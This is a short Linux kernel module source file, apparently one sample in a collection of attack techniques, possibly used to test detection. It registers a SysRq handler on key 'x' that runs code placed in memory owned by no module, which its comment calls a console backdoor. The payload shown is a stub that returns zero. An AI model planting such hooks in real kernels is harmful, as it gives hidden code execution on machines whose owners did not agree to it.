// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: a SysRq key runs code that belongs to nobody. Who: backdoors at the console.
 * Changes: the key 'x', which x86 leaves free. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/sysrq.h>

NOBODY_SYMBOLS;
static struct sysrq_key_op operation = {.help_msg = "ringside(x)", .action_msg = "ringside"};

static int __init start(void)
{
	static const u8 code[] = RETURNS(0);

	*(void **)&operation.handler = NOBODY_START(code, sizeof(code));
	return operation.handler ? register_sysrq_key('x', &operation) : -ENOENT;
}

static void __exit stop(void)
{
	unregister_sysrq_key('x', &operation);
	NOBODY_STOP();
}

ATTACK(start, stop);
